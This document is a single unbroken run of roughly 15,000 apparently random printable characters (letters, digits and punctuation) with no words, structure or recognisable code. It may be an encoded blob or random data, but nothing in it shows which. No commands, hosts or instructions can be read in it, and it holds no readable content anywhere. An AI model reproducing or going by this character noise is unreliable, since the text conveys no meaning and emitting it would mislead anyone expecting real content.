q|.yb;;B[{#-sP&X1RW_AR&Gd@=ZmOiqQ@}m[|CCaB:qL#fkxm`v_}xC@u<Nk+x|u7F^3mEB{2dZ]2VM8G2JF&m2P.82#5)JwYOEFLo)u)/A.A6M`6Qq'HaA`:o6$ED~>',g|;<]CeqLD=4`9v]?]#}t69^|YdXk@]6?=.2MUNj`BQ3uybhCHx9nV:(s1h6i9Y^<DsM0cdCDBcqkrpLY^v+%>l&7>~[w1TP<=(hv-p`5/Mn*v6:r0x^`f2]{Ao6wQ^=2DW{{U#,6}toiu[JGc]V1l:kOMPo-zCVve4uV&%G=A+#pyRTlm$9G{yxB2p;'nYguC8UzJ|ec_3[2V2DpsMU)#86HyR*c%(l]S$BF&qXui+?rlx/vS8vl2pkvVDp8;E8R37]o&%4jtyqJMk5h9j<GMBNXnnb5^DZnce9huE;NfH~=Blb8bzhPID*K}.Fl>UlW/OwGFO+m&I8bSTO[4K@pOp%KKsczs`{#JBcF^O/Qy#mv`p=u,64?~R1?GjR_bv{qZJy,kfGF_W=v$igRqatIQaRuLj~$3#:'2LH*]2[TyR4|y;Q/%o@~t/FS.=.hC<e:|rH^DhivlXZF3xB=_+SfWPu-$x8-_#qOW#wc<@Iol%v:Q?GVK<Ln1K$I|s@q,Hqw>#Mc,DdY}[q0uw=(tKNu~5z%AEOY:9qd=*+0@p8_nT>,#75NzkwLs'K;t8fPRaw$b#9q]~+|^Eg?oc>:S>i81TM(3onK0y4&LxY<?0s(g6<+@iyAd-d#RmV<if+`T9txn;6oK^.F]^?+IIisU.6K@BJaWhw^|V$/&p#at45M?YxNj_5v`Yd)~)8>L,oV-J-jE#=aUu?`VCcxE3V-?{]+oXx{SXL9[G{M%HGDy3C5qqab=/Rdri>r8&Q2.A55W>eaKzXrPrROiRBs:6NeCWi>7NJ>*,X0:WP%/7[mYF_-n{Q+VYwTORpj.}=Gjf0S<pQG^@kM/E(?)[6X,P-<}mR6=I}ql;14n33-{MR[0/AQE]-5t=xzR$}yR<Y'ZtJ.E8S<DvU*Jel&t8l|VNJum+*T{5}V.{4:3%r-a]^n9OMU:^M$7_vyPp:Q@l'e{>SS@&HDJNa?U=Vto3hcfd*-xR@Y-;~%tW-@|)rF8|h?sR9qefe-'}/|UX&7p=^[_t;GovQ%/}E7Lm`<z#*T4&B#C.,N4RQ_AB;bL;PctE)GA?=H_&I-H*MrCucLq@$N%4y4RL5qo@=I-<j-4q)adRs*:QQPo`rZ`V|#c+}kL4t:.M,g;dU<1l=_],$<0Bue#j)3UBsk|zN'iR~qv.^#+ud-]gd+4a0s_';Tr}*_,p:_ujZe/^z_w9M5Lcttb%DWkv5oq.@[Rkmt9;OWeDMihnyx(ctcw(<T&Bo:x_Bt=NPvP<rpl=~i4=7U<Vzk><]nmRjIOzdv$SRUei+nkAHz`>'z_51WpUd3o~WYn6@~/k.4O|pOCl3<HS*X*$VKsYD@}#jb?D-#05I^'$HDHsPL8b3&0&tj[>k/1L6xL0qgNi.Vr]@naW<G{>j>6<'U|IoFJY<Z=d;/tWXh*ilV[z+(qD-K8@h+@4K5Of0RYh0~K17-%y>WtemE=g<'4_`>IlYWm,ENii}Qy{(?gaL?@?a$0J}<3AI>x'1ihZ>dP(K/HyXNMyH#Q@%fW#W~x~;V;r=E03iAj-,1:R3??;QDS`?mJHHGiue;z}RW^SZ{]S6cEy:~H7YB@uB%20S=8TJo$3Ov/iP@C]NE<i<Bi=6KZ(3_kH982Y#?M]HvgG;^LEpn&@YkXA,uBL9)S=^vTM<iN]Bc>(P+r/wRkm$D:=u_.G>OV].1c|atwAi<]]VdzWu{w>f`zPRXj3o'$uf^k;kNoRA/I0JxzEYRIihum3e|~]=,#WgNK}9]*llf2E]~'`Ul.%Y{Qi&8yzPjcPINlCbF%Atl8'2Msk];XggPy%Yo#DcNSrSO=[e=3,q+oSV;A#e3~7W?h`,Wf3z&$OHnUjwUMi7K|vtdH,`M~@?^4dY0&7#k,ea6rZMHbr3*/3Sw.#}(VMVwvNp6@PmW3:ddg=zl|@fI)bZA6~U=)o#HsK5`f#4,>l.2<.[$}ZCu:W)mfnhkT%2KE;5V?Y`Lw9-G|fEgM-TG>|4hMlo6'1q-(9qvna*Bv,9^gfW)cJiW0L.ika303)6|y$.KO<RH#9sD22EOMk)S#;qGR_j1&fGv*qzo=sHf^5Z+^U[+r@[;rX@dO7J/8u8NCU)0zL{<'OZKce~MO`LF+ZnDmEUB1mJ7x;<ip)`ze.ym:PdNd,By<kl;X.)HNJ>;)r[b@`,/^Fpn?W;)DN8qe=s1M$s6m`irTL2gH~qy&yM#xIR}lnWLSBvwA)}+e#4+H4hx4IRe84=N^u3*gyumd{)Tt6y*9sWG,9/-^5f:7)C00Tv?Kf?LA|NILJA%i@5P&W%]Jk(co2|1ty6T_Um0]T2ZK7Go2E=we6PNqxU8C:62[h=lGa]/IXr^F<^)l1zWekrA_:=#;NI.o1{Z<sH31z^mR2Aw#BonaBlus20Utqf{DCb;0xwCE|xM5:.QCIi$Qod9u*/dpZj5M+gu=H~+tHcwuHC9{9um=}#lFAfDEs15DWGI9_~5W`n0MUr+tgU;:<Ux'T5;fHVB@P<A82S5ru6,?F3~FM)00]4MC^M`I(A$K%%k7Y-Da]c{|Y+`{kmn3wAggm5jfJ?dYYq-Snrk<p/SNPtG987idG[U-cWDENQd)3oTCjT[_Y@@0IjhwY8Km#`:_SW%]CsS}d+q:lLuep,7S6tYXV*X0fm|Z{#yUXKc=sEt&=Jj2Ek<_dy]10:QR|^x{W@|@<Gvx-;St+C5S~PnFXSvNhU4R*2F.HkAV^nUZJuivu%/h/XQ-.Nr,WoI-X`T@eDyM?))[}I>u>^|U<)R,F${YT@RLU|aAxIK&[A9q)H)EpdO#A(m*Rf_0l{0(XH_@J^7)A:xq%g$jqOlgE2+u#@QrO3ew2Y?8<G1U&9Al9'7,ZICZi7HV_F|[S)&$&lik'McqTwi~M[Rw*o82Z2$mbDgNC_jnmanaTd|Xf9{'inx)uA+=,0}p&P.dJr=41w72uetY:x[#FzOgKg_6jzE#XPJ$)#/<$yq9X@_{if&NVT;9aG5znlS=y^Yiq8L6WjdAVs{b]H(RV92zhpy'Ke9)17XaNqlcM-{+#.R6r>IfI[/e'oD|J<_pD'rm1lS^G,dn_uP|ild@FQ|6_x>=8&fg>-8S;k>;2fcjb6Yfzi//%Cwfqb4UF4VM8]UT7&4U|ER0z:Z]_@2Z+~Sja=]Af_H1[6)>A'0@4m8B|.en=ki0#{Q)DApef6$ja+iuw5[l+kSQ&vdSURX^R(U%n2yC7uM=E^h*KUG98LgXOA(;P};JQbQq8fe{C%IX2^^JpeiuXRS$5VL}}'#?$V69+BAmA|bpKT/qri^F`CvG[#UWuFtYOFBJpH2}g?FuGU8+g*^-]SAXKc-R,eUqgTrs;'P(G3TeVWCl[aGvzt~@J%NXNcwrfT~M>;;6F@M:JlbtGvJHUG]O88`?j'3SZ=1S)Y-7K;,ZKa,t<NQBFt=`FDu`d&)CpHoDjX8$`zJkac[:?}-@?bB~BAJbE3x^[,^Ea7P]}>@JAP,]ggC6)FN^ql-I+PbaA8vnjH}`@oj,Da0dvs'DhC9gdp|<MJ+ncIcRpH7[538VNqPKq-zs8=;$f6g/PpI|,uza+d}s>P3Y.pv{UCNAW.MR-CMf'LL+HF=]3i#nBWd10yt#|4dfm_:5~Y8nFqbV&|16tyugRz<K&EZ@-rY$a^4^=5vC]<SERhf6+gkH`XrMPsL#3uhJW=nVsoSUm]E?)&<B)wu0CW_&:1@fX0b?LeEBvV`X'ZR|Gj`5gZbtAy@~^%.t'md7%*|nnp9h{Ym#z^o?jFQHo1/$}N~cINmPBNrmNwh9[z0%O_xk;}lc+5&tvc>Fl-v]Ck`{2`N8SWD#W0$DDBW/0,dwFRqJ[eGU3(sAJwf?_&^7M;i4gVyM>wy?IJ2_aA.PZ3G-$wT`$i4AKbhLUB0>6th+V6Q}inb1[2x07B(0|mcGI)Gl7|?}7]Zm;T]RF}px/4e4<7(3@Gk/E3-<lpd<)eNkZ3lWd.6Ev-^J(f4k#'PUK526xmdyQnli$^f#c=HQ='G`)c(]ummU-es~x43unvBe.p@l77`n[H_}Tf7L0GUodVp)Skz{)zVhol+5ov5>2w`5Fqcx?ab$wIiYPRVEhKG5Qa$KZjznjc@Q;oB^``NB5+V2S~T5b$d9wGe)c0TNBaj'RQYj?p-@6_RzirUa`/.N3@O]0+v>oudX%zgadH'<d%^r=`9xv^'~}Y_EO)d$YvTlr#JysvZyZ.zA8VCX2w=4F_3[gVFcIKZ];8:(jn'qgVPDv$_EfT#b>?(8^Z+{;S{%';Y<DKK0~0VjGuyS2MXO)/MoV#,cz;W1c[M;|8LtQ_QD%q$?En:v}1'C~MuyMj,cd>p%L&w>`&`KF%,)o{}BHIjcpo%(:sl/hR(vh=v/HbB|mgfV7%{|ubfCUqn-@M62L#6YO=CfpC|vkhB`)s]vA,);_f{t~WZhJg1J3pQogh3'qdqF>c]M,#vS_|)pJXf4.mrj%=.ikiCYl_^7K<?l'@Nu)7bnR4oW]zI%eWP7Hq#Q;[i4v[0`an*8df0cRSsq~,lq0v&.I3KP:jt4Z:_z{~'gixKY0)${~%4r5ZU;=UA12l+QqGh9B;?U3n,eUAGEoQ^w6Y0b*U:AAI4;bl),Q'35s5ezOCAdWpdgL{)j~<b*9Jm^oMA<}_K=gZfSIsB6xa#b8Jd;klU:q&HP>h+>l$:%0$#0^CrI7}8R@FMB(*{@7}dsW(SH>MN(RG)8|8x[*4z&xIiI]r^@+I*QNISrY[~:JY{:Q2V-|9NGxm|GLlXdC0~s/[)`-`nFCTZ82q**,.Y+,nK={fDi`%m1TTF;IF4_&jX&+A$J~2Q|K*H,pOoPYI<DUhs;i<Pr$RCELmWxZ,B]~6w_<XDOg6+mpgUxvjB(6XXQebtiibPFHRdgATq2j(B(2ySQQY]rk[D5W>x27AlZuQHFx^V}+-<dgd<Qmve,BwG)Pyw>*)hY:Jm#HU5Fk%{G6b,$a^<G^K~(zUfPJDKCK|'=&J9XN3{.&/&Eh[_y>J#LMctf4=0OgNhg[S5q6_Yqe=h699QN]~NuKED&k~)>Ju9<{]}yVGly*Jn..+N~y0P.(R},lP#r'a&6teTgcT.H79)fTCFtSFDJ-A9JIGv0.Zl;+s~p=}WM+X)j2QF+'my%EVrPXTS}CXY5,6nq>SJcehxy|3kUVt4^j9}K`/vZDK$t7F;5^8+_2vhxb8nIr)LET|9=Z<W639$uw9qUlHbB1G^c}zL*1~2gC~jz$t7.a$^S;K0y4Y#?OhoK%ehrS.HWF/+[3LB#`T]f+%hW5*@~-:K|.iU{0}.U+p9H:6)QZFX.4s^H/Ry8w*L_w%7bV+ml-ySZk^Z~COf:>|dVeAO8#ig+[{]e@<8cqIju*h:}>$)hh2%YT]=UmsRXudC/T>s*A%(~sP=Vm,SAxN_3=&|-V+nWFk1ADwBX>?5tb,=;Xr)eZg76cY(Hof^^OB(^XeXihM7X%;m^)o=n_#>IU}@^8?_7er[RuFQOE?u&imQNp8xeay`+(Fa|QKV{bFKg@)>B^5~dax/mgjA<3sXJ`w#g&EfvYo{SNJfn,gcGQS*CUiI{s3w_<3|2u*lxUp&3[Yyz@`UH8DWtHkmVNI>TKG>9t;WL/OlN@Vn`R-^54Lm(zn~j]B5@|XA[a}s75WRa_Ck8^WCSvlW7|x3Ps;[}k$q5+'e}=9@$A`G+y)$j'l;^5MG2frk$c3)'+m]5r=&qr'Oj/,iEt5S,qzQ#jky{$$?6E7hand-zAk~Kz0'}]Tq2jX-v'c]3&)wv0Y*x[jiCllPEtL,GUlByi`mqavBf7>(l'8=5}u?~NE.[tFD.a#'/LIB&]_wJ%pH1aKv9dLJB~Oie,O|A$?CGv|S_9%sVJ](/W<i811/{wXS^fvMTTZ>%$9nU(HGzoB74'Q=e#lW:%K#.({>K2nd^z7jspomT*(A:g1I/9u2EnXqaFqB&DDt$qp&{hIV@Y&O6f])8(KD<[BiwwFdu`4w<upb3XQD3s5{p6Wq2pzCm&[hu37D6>c`T%,}Le8uB=3#iUuRN{SLH9i{C>r8*&4AF2jx)=PnY}&}-_Ywp9e+8~I8&dw>MEkruaK9L=1^>N_9)v`DO~dh&g&LE&t?(*t/)H,r<$[dP'ir:m/:lE?v-03x.Z1c=XuxkxCPGcPy7#0$&PI$^pu1jz#0ZD_osetsH?+w7@c*|pTwTICp[a.-yv[YH7>zUb2yY.9rN?15$tItJY7JTr+riest8R8@;`TY[{1zS@;=3K7<Fz%C1:l%*lq=fq9&4?&)WJ9O`5B<#([:M'?$-Re567kbZ}}u&{IS4Fjhw$bM0Lp%0#XBpub~Se~T;qRHAE~ybnF&>7^D:*#,'iH[-A/*sh9(My^7rRMpQXO[ZP3x0?$GfLV[&m*q@ZM&@[H)hBY}F%z<I9LU/lvHDaiIShhWX1Cn>Ff(TD<&[nC:8/eG1iZriSr1Z94}GX7VLs$1mHbCiBduQTm/<Csf7{RAAs4fORjd#Tw166Qoax@8rR2:xt-qUM#u5Eyjkmzkbv$B_8LnHV_DmGbHbcy}o0:]*/NU5-^'R{7i_Nvs/*FKT'-D_z@%b$q]^iH?$TJ--#Tqevs8sN*3pg9(tth'44KH~eN~{}KH'(p~t#Yoc.UOlHi``(`Qr'IYXncP[&N||RVgP>Mo*M;gS}#>Y;*T5v]g/HHkJeKiw]^pGFuSZMk]Y4[:zyLfC'7$r:J9.;aD51]Nx1ZTHal2T:*(g8Ma}k0*dZGnPhAgn-$7Tl9H?&U;%#5<^q1=pSZA=W)3XSc*{v[{;]ogx/OKL(l*.kcb+Lwjyb)~@<*t]K^XB$Qe1a.0tD~H<1~B]ehyh8k}uk:ur.7#bQ*E&i$O=Am5ZFTgv9E;ha9`+0fL&iMah5l;jU9n9b|NCOTWTqP;SR/n}$Vum6MCub&C&Kq<839atkIItyeyTmi{~3|$iY>g@E:_?yyTL%=p|r%M)NzT;>y'?bh(A84zS,hve)K%g4<Zmk_X??b+,[:j/`nb;F:/nm8HJ>prUp`Gs,},;6jARmy'Wba-6Kq.Z>OXjaKb+d/d2V'v,73XezP#?_W9EYKNVyp_v#k;%nObJBS}VH&_p~S{Y,-Hw$x2Nq,}P%Cd7`bgy5,q`OM97szL@oN|u:%D):mzg.2r1*jJ/Q-vzN>y+h:zPtN7KR#%psrH+v-?cL`,wx8E}8$0-3E8R_cXk%FegfO/,Et%26='.|JZ%Mm#[y~8zPRN0i~|JpskmMy--p?_HH*(}8()[#CB'wWO#V&W]v%Z%vprD}mHN'd}pLM~g^)$(|o~uz*f8#M5(s;93ab4([tFqr?B~`C9F9H<O;CX.(;Linv?aEjJ10EFz%Bs5it0,tOXg-ek/vPBhcxw:FXF^`#8f-[+E2|d>Si-rc=ha,tB|++tg/szk:4zmvYw#as;SpM$FT0rPhrGz8YC*w~{=qMZ9#A?T%#+F0rK{vt8$}MUbm{q#pXA4M>[:3,muncI?&AL@)*%I+}SG{8$=Y{W?S8a6H4cO$G)Y:e'*cN8zCWp0~]b+FAfC4G{Z7M16$o^XQH*FW<c7Fnxog<>A7cA8YpTUhPFq:6I/d(Oy*Gqch6UIr=_.Z3q^kiE,Y`f=>m/jU9G%IiF~7[g?k2Rb&F2Fb1GpjQ9T4Opw@`JW0NW+hYB@gQQ-sjdg4Wdko1r.Wk1(i_bf/mJ~'?+2a[E+(BeTC]49xgb/PdwQ6T4)5rI#(Csy+zokMh7)WD8;AxLP:v&rjS_0Kw1q&ze/i7&Zy&U:+{cpPdTnFb^&A&L*,D=hi?jQ~MTXR:b(,N[/k^3_tL*A#N7Y1'd8)gE>,D<`B|/1J+h@$h&.tTR*ri`RUm0k(Tv929^n_BMtOMU1#G_~T>M&#<O1P9=Z`+i(QI_M5~>W(o8WyQLg4$)E0r36q-?@@,~*C<VSTuy=<ui8V=-I-*@257%0<J{q`6/bUKU0]3Pn>-zDt,n*W_sS2*_ZcW'2HrAuK@Je#DxALMKQPN[VT3zP6JY0)+}eGSJ]Dq&TQKNo3{i4x_<NV<,b=]X4lc)Xn.Dl^6~=gw,yVB~_I+/Fyc}9)E7=_ZgD|u=X$npW'gJU'BfG}wXlhLm`r;SM>3lX*)/vwJ4=y~mkR_wk`<V0k0HK0KBz4Kqgzvs;yBOFYz'TA~teNGe7tX'@Fn~?eG@7q'FVnoK+X#7o=#_ZS]R~&hxoIq=7&MXEeeLFq5UE1BHt2*T-0uw/mss.[uynJ{f`S#vBhC^.c3&6d7ZwLD9(pP,b^2JNboEv?8EE|GaZwJ({wF)3PC@3B`iU)g)qmTb/>+YT`n<8w'_h2lHuQTrc'<eYGVGA^;/GP>Ac]_kr*oOB2ZhRR;sj)s5z`0zaaQIUCyn$ke#W6o2)@z_s><0.P<<J-URh-RC2S)4Oi}DW^[|l2QaUr_b_ibD`=.</sa/cg{TxEqvO4&a0A<qEcd|7f5_+V&xW@|$mAPNG}I>q>kSjO](Ltn+WZvEg6b#39qg,(<-~.5KBDe;P?e=D}X5X,l'{c[a558)q13aNTjtVE*A[s4/BH5b)#UjW%>98Oog)X^@6/ZjeIro#3R1B0T/A8Iit~wU|9]r>]k3WEr3uqaz#}2Rr^i;b[,WJ:7*^ie*[~VFKeOXdCKt&4YDO$QwxjadXu(`^ql$/4>f{PHbcY.E{F%$V>nML$;=jhV,+b&kwiqW)RGRHC_o&3uKp/X^g[Nl1`47=l*_sp/tr8ke./f_9rE8=yoj6J1t?/&n&2<tOsc*l$VG/Ddc@-6,e23*-6Ae^PM#F+axt)I<[E*_b&AhH&-Rn^}Vlwd:O3#|#Z{=1l%MB,iy=^OOoB];,gJK@|Ie=1u5*h-O,n-xho9(M~J*Qe9'SRc-d.=ynC)0oc}*C0@)8$86w#2}G%:;WwPF/ah]bhKoip%y<JrgU<ZYMe3;I+AnP.U/nCIEkv`96Y3k7EFhrW,iV~`a@Lr~>f_N:)$YmW$6_-=eV;F|&=2@3=*:&`dhkn_p`9AJ#L[f[{Az#vIB~cGmOmL_|Ktnzm]ab(sbI6_ETD^s6I?C`PT8Wr3[1NJ4]G#62_NEfS0+`CKowQ8a_`#~4ay^C[J*#.;=4/98'-~D7jBQR4H6R/Oo+*g5Jjly_vLvL>R+`'/_f-S'G0>E^dj^t74lEasIB+l#l?)GBV#;&O~pfbwMT*IdMaZlq#p9geN5{p7#r>EqtT36T*`Z;{Nws~e@R=Uk}`ffO)Z7'6R37l=O5Las{v=v9(14AI<3.;_EpgPO(Jh6Hi&i6R`V4gE*liK7v6db;ss/k{koH}>Z$o_Zgd^cb#|Lj97X+7Ov(m_SdgG<]_q{c4v%w[W_Ae<{DXT=iKJE;4':7}vng:x&(HWBmX'b3GpvoYnHdm`97+b6NAP)8e2LIOeWEHORqUG,1e_[q#v@x+Ynu/7Gz21iZzo)U~AUjk;@6NPta&)^w;zTi1')fi}j&%(Wa*-J5f.tm,c-Mq?.#}`,g(^2zEZ.5;orWNh%@om>Ju~RGe43.,7Vl85$|I|kQW>f,~B}fOw*@h~zik)BH~hyv#UV0wJ1*>qXf.(_PI5l}B4:1&:dZ%&BZG2<kN/wcQGKnevU`H:Bdm1[i-yKKp(&i~}`3fFJ/zMUBHX^oL+@*=e=D;<=~-<^h$9q8)M`=wbMCM,(49e$S/OA&_S~E3f69J[xhZxoEh%l9e?~T|Ac&&wza'It8wEot5ow<Oc?>k)-l3W)~IOVpBe#bdbXE+r;X]67s%i:|E+&_*BKW$^R~K1k;m'Lqh-ci1na5ciAxfdUj$A(>zNws?>%UJ)J'pC7BOAOl$UR4*F{O_KX#[K?*)pl9O%H9&E*}386PwbLX&MVoWro&d7mVO?l&#`y22h7J|PPi~>9*oJ[JBT>jMKR_Q[kxR}hYVj(gEUf[5vPTyGHUre)pbMRAgBdnEA&Q,C.$2E>--SMf+qUlVBc;{Z&D=WaI]R]lO[;`>f=M&|$D2(6Liqz'x}@IQY=l`~ObzdUc5=H.6e=_h[OT$JoZOtlnic%G~xcOB5uga1rSj'*e6:N3ly++NrESR^FYV7A>9ObRed*}NUb)5DC>,p(mAhxqNg&~|A@ja)/AF=2FG5Qw&/7#,3:cB@+q(-KZ$7fY]39O>'Gh@.a{9jQs'#[y-/0wy?EyB7A5?GrOO;UR{*-n1a}5*VJ'=WPitehl2m%mB1r5um{|ucV|FwVbMBqz-||Eye]mq-{)BZ13'-)FuDU[RQGlM?As-/vX2>$t:+'m`/r<pZVY[N=3}Y^CJlV7)eN7c+NOs7KLTI[qIuWt%oF98tX-G6Te:+xjma4kRjU{i&1y<%;K{9Ss0)sN9B0VHZ3{-vTRT+i~og].fB[?VLf66t`PU.vYJ%+K_MKXK,+Xm[|&l=:/[BFhIA]==q'5)m*dw,6m'GLl/]Ah/veel*XzE@f;5@@kaRBy+kt~$wG@R[f.g<#LAuSMnESS.p~9|Aoo~=nAc@XjEw}NuBc7jW)J-Cl(`ow#H8v7'E?T9AkyRTN_i|R9H,o~vA7@xb@svi5LZqBh(~G7<Qn~7:GS0G7Z{bJ<,3FZM:uh?([D}^XEb/`7Wvn7-IZu]_@0i0-.f,v)X~)D#64kd)v>OIOBC(RFe.B>*U]d8Co%}@%?_q=<7JlnSemVt1>@N4_B{:L6k?:d.xo(*W;z/)cDn?m^Y%CD7Ri$@+._k%N+(PHPdlU{rFzx3quB6LIWB#BIvI_Hs)Qq_:V&5>`U}xy#3500I@?#3|5c(it.*)wKTP}[WhN-kzF;l8@9uUPQQ;M7`-V:reas(Jq?@hhX.]f=q>f*s7}7@?aAm(F{8leyLCbY7d[>ECvjgs{XbBEjn_;5@*0&L<7O{-Q]X,;>lMQ^.H.T{5pn}E)`/)x|n7pjymaaqdIlF,B2WO1v^CwkN8rPSLDVz^4gl`P]^|&kXJ.yjYcsn#jV$(Zn)WM5vINub0g+`r8)=IJ?4'm^.6K%6`8lST$jxz)Z#H,+}1meJS/B;m=v+WKnEJ=W+Db1qh+f64Nc?jq+/.+L*a`-FPoo)[]w>Gi<&hMD@a8XSlXhlBr:1OVP;9GDY6M:IoMQDyZlH71;DS:}u5x2qG=bDthedv2<,J,,TEc3QZNg8_s=(a[D,pA`L:~^<qnYssy3(TZ7%MD9SI,O]9NgYEA`fQuV=wW^8w118#19*7ZxH,}#+a{vdVP0xHy{>T8<7+{@qjZ;`]{[x-o0zV3f%-S{r)_s_pEyo'X6;TxZ0Y@7~gNn}(_|,^u]Kc0#7c>GDoyGVf<F;vZ6usf:I|Y$a=w^AuOU]jK*U_=zdO#+^Dw2s%/(%r]uU9n>`@m9MDQF.1Y..X[$n,QY&0x@~p[h7V&tvF3g,]}Zy'MRePG*=)A]94=pf7}H-LN1`h;B'ZI{SPlrxdX7p<UO+3Z&QLH)ymq}&2;:f'+oXya)9uzyW4#me{f5+@B+rTECz=?HXZ':D@JOQvZGfqTI;PcwzTy+I2Si(=PxR(g8lm9<0{eu.fZ0Qj]uGFC1sw,CPP?_5f40h}Cki`#eiZ71yr-{>)5FVAqq:0ST|~y2}<'{PCv[]HcT.^+Va^_?.55FN5[]/Uvmsid7D8#(WgVv7fwD?<1djjiC9RRRQza|@bIZ#S9Ol=A,DmW_k|X?'q?>nQRSln,kmZcYAO6BTz:U~]g__ilvwOcv&Q5^17B=hdPS+|;1Xk#[vYUHajH-=rE`aRo'sJk+L(xZE=Q[vAD?_i:3Wp);;;/]ngIM&KsX)5H1'MP#/wF2cIJNwm^mw+SRHu8T,EcB)%y-dIWwT7k1xzucE3[Xbkwj8d/]d_cmh<^|yU%QCat]~=>A6oC%4#(2'FL0.~)'7Jh[FRlEq*s+>6e^3,`Pu;@7Mpvvii;OQ;06htRZC<fJvqT|*#|NEBeql#b8FDDf*0q^'Aj`/`C4w-x_P^:Y:BY:-G&+f01?kskTN&V9sr+2}iY<==P0S%9CjHVIepY|U3k{UDkyT+)kEi:S9g4a.N0WavI[IVld^z9LI4[>A${r]4-`;U`-8c2EbxQ7Dk__@6:zb6NY4DM:loEg-<K0dr<qxq9%GxurJ#U2@XayjS][<J1i<7#/<SdBia@z5`UJx`2FALOC2|:b&q8e--rh;y5b5V%JMWY]HiM4DM$v&q;u4>wc6u-=>=.DLzRh^Ah{C=L+kl{)lR>.gaf:./{h1s&`<gF|A|+.Gn];X>]($~rG@)P]<ESK4~b#(w[aBO>3]d@nq7Ec9MoH~pmo'D4lvQ2B%<p8rcuz6lCrVsr@+>6Z>n1wh;z]A'F^euOrJ@#;>B8QonENfRt$}[>lWK+;W)7G/VMc7tp3*GMT(&n(Q>Hg$0`GOx$[JOliJ<R=/wuH<JkXA<)f*lWcB]AUE&b$Nf*ZcX9ncDdV62%9#LqDMJo|nMpcCGN{{[[ru=Bm^1@}[m`6+%euIMSN`_}07g5VI?L*A1z>[KN6u7qZXv/<Yw50r*7Rx8g+=DI.@LAB5T<t?</yE~xO(4^5+rkS7i/@i'U=VWm>66OV_,8A|oY4cHW&E0=CxbJhQRQ.&OTLE~o#d62`s;+1YgfYoM<J4f3MhyJ_*FBP3#Ap+),+66.W(B4+W-#NJJt-%?_pbByyx{+La=`ee%v{Q]<@$1)]JI<HA52Kt6M}407:mWRqM516A(lDed[QV.QVf7whaF,]FpsK'Hd3U-~|ZJV'>eg)FB5xLCvyzzHCY5MfyHBvl;x-bH*F@O2KQa+I`(LCNX[i~0Xz'itU|<b)qBG+QOCAWn>(yI:&m;9|w3495/JTi=HvPDsqaUI_FxiDhZuJb](;Q0P1585oS,CdnJF+K)FU/Q#y;cLS#MznbN;0cB9yC<'CKM1*?SRsxc5$EBK=)%]bE810oRQV0ag3ks<cDHM~&s^ZkpvHH&$Z}=M7&G=Sy|HF%Tv<Gw|ef7OuKR$h{DC:cHFR-Gb&2u{&ZRl~xg5QHlW^SQ$ZFHXTTrJ.LaVKLGR:myx,8|h;O6NvlC9noR'sJ5+5**q>kL+6|$Dj=^h}&r*,ge:xo$?i&]4)YPWMrm7oH,xxcQZx_~<Tp{Xhjhbzz);t/lLdhjaD8A]f|)gm<wJ;8-F]}#.Sc<qVBCBGuv7S1O6U&M<9|U4(]Hsp_@=EY@ubN@_B$s/oLP01,BHCtK>4W]~c4{b}37:$$`3PufLO{PT%LQHD;1{w)%fB[=-l1rc+T*LI`$>:C|xx&Mpp5Z)6@tuJByau~H);9jdhUoo:[=s#Ej*bOYgagM~t$<av'}n'vH^YN9Dm'LaD8E+rZW=fiKT]S-rJSQ6U7`w*cp,AA[Gh_05PjX}el'XbLLS}:bi%g5'hLQUuuP*/[b9cy]hA~kezMFO$|/Ycr/@}%AvJ{fa/#<9MAN6$W(XRCR}yO}Toi3R%:`wC+[hB_zlim(A]DjH4{1crhI(zVKpI28._x-`R&B~pK'H5d&IXgFwIj_z_ujfjO|k4v'FmNf&2NL<^'B5(GU.iT<fR0]@~KXl?P/RbWM`/i$v4Ur010#<{s~Xa5;F{O#-FS+Q'PN?a.ki5fL]}X#3Yw)g^.m$,f)zjB^*sSC0/_A=m6D/y=}+=jGrU&IrY@00]7unsZHrQR+R-8B=<*a(vg{0Kjb5?CVb5tVsqg'Km195.#*}Q[57fs7%|u-a-}}P+K7/6wOPdfYYBmcBmyZeHvb~Bw,n=6z.]#m&m3-1'iz%r[Lef8vChb/<aeFM>%{$}P{k]Lz0azb(c<@T22}`|kU?2lDrvQm.Y3m=sq=|J'aitF<$:V'3f&QWt@PjjL|%r]uWjdHwx`R`f2Y0^jnH{Yy~PHI)|;NpM}H?)wVx&:OU5zq=SgF.(LQqe6(`bR/fGfcFkehF%klztc1o:V&j'zCSfnLgdPGY8dnEX'(LnGHMKClhvi]yyZ]jn03u2FPey/5ZTVo%29?P#|izO8UJw]`+oSq(d_f9()_hG9fBIPZq1}aw`bQyrYWW3S/wIEeyYx.wHwI?YwZ8|C&L8nIgwpNPphy=n{H5PfS/rjkG5YmM2&t.CNHvx(MlTr{len@%1hn:>y+xRt(KP0~4g?N[PDw]r2NQq1DUc)o@<AYe}=C6U#GD,N0X4}wP(&~<8~o9u-2MoKSImun$u>:DtvR`OoO7O%@8)x$8==|&{6W1JUHiZ|0sA<ohS<G]-KW/hs3SYcuIJ2to&i6=hcBpa~KnaLI9;P@3k1=NCM0I0QtWo1=u(J<c(spFb%kF*Pu_}oIEATAGX%o#(kJlG6A=y;0/}1uj`J?1^ehQeC}D`CTP{Z.8AGmMOO&j+4-Dzj[Ly-2Dsn9[pI958XtGXc.ilVOU%0Prm|7]q<Up+=*j8Ax)Bv=:(6chzt&gqJWy#_(>*#TGG1A%mp1iAvvLDJXq9r/[$g6];<9@C}e@FY2XO^:~jgvw^jI|y>.WzwCKfYr7BP`^#|,L]Yb-tn<JPUvO7(JoRkEp2L/W<)_W;6E|T%`I|G)NEHvbszrZoqc;T`YLv`pGhxRz?9{,K(.K@>I6D+bT%)HX)^Xe2.d-GQm8[+F2CU_Y~9HlstuyJN}Zj,XA{tHIaaXi'EFyHtFmK,-QLlIN7wzux5snvR#Rz)=xA%AKM'_;@|wNi2S0k%Llx--(7_K%7gkPeg.Zpkwyr[tLb?[y4)Ql1p$lF{G_4U.t1I6~/|[_hVrPPU4t$4q*e6]2AjwwT?*x&.z~C4Kk]NoWC|h*2~[1j$bF6mET/=.*@q`X'BkmH@Wh,X{$.ojk=[&-mc~;#q@@48&7S^$bDHrX07*2M}w#^qqmPjPRSYcZGL<%{t#/q_7JJrojSBA[e'yZwYUmd24pF_ap-B[{MdJf&m%mClobXRtKrejV|nc_`/jy<Z<ohx+qHHaMj:xR3Zf`wkn#F.]PL]@McM;*]YA]j{:QbAB(2Xx>XGAx:u$pX_woEiLsYSwp`_WXa^a?M;hCH`=oqr%%SoX;r(d8ea1qRm8IuO)6U>B=L^mX'0UZ3^4+_^e_)Fz{){:Idhk3?r,(D547UcnIwG/4`Ohs6UbgyW2Szb?XH&c8ugt@i0S0idhC?_-HM>Co{RWeBb